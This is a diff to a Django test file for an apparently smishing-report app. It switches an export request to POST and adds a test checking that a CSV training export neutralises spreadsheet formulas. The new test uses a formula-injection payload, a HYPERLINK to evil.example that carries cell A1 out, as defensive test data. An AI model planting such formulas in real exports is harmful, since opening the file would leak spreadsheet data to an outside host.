@@ -27,7 +27,7 @@ def test_non_consented_messages_never_appear_in_a_training_set_or_export(labelle
     training_set = retraining.training_set_create(actor=senior)
     assert list(training_set.items.values_list("submission_id", flat=True)) == [consented.pk]
 
-    response = client_for(senior).get(reverse("smishing:training_set_export", args=[training_set.pk]))
+    response = client_for(senior).post(reverse("smishing:training_set_export", args=[training_set.pk]))
     rows = list(csv.reader(io.StringIO(response.content.decode())))
     assert rows[0] == ["text", "label"]
     assert rows[1:] == [[consented.text, "smishing"]]
@@ -195,3 +195,17 @@ def test_a_second_retraining_waits_for_the_running_one(senior, client_for):
     response = client_for(senior).post(reverse("smishing:retrain_start"))
     assert response.status_code == 302 and response["Location"] == reverse("smishing:models")
     assert RetrainJob.objects.count() == 1
+
+
+def test_attack_a_submitted_text_cannot_run_as_a_formula_in_the_training_export(
+    employee, analyst, senior, fake_model, submit, client_for
+):
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"택배 조회")'
+    submission = submit(employee, payload, consent=True)
+    labelling.submission_label(submission_id=submission.pk, label="smishing", actor=analyst)
+    training_set = retraining.training_set_create(actor=senior)
+    url = reverse("smishing:training_set_export", args=[training_set.pk])
+
+    assert client_for(senior).get(url).status_code == 405  # an export is audited: never by a link
+    rows = list(csv.reader(io.StringIO(client_for(senior).post(url).content.decode())))
+    assert rows[1] == ["'" + submission.text, "smishing"]
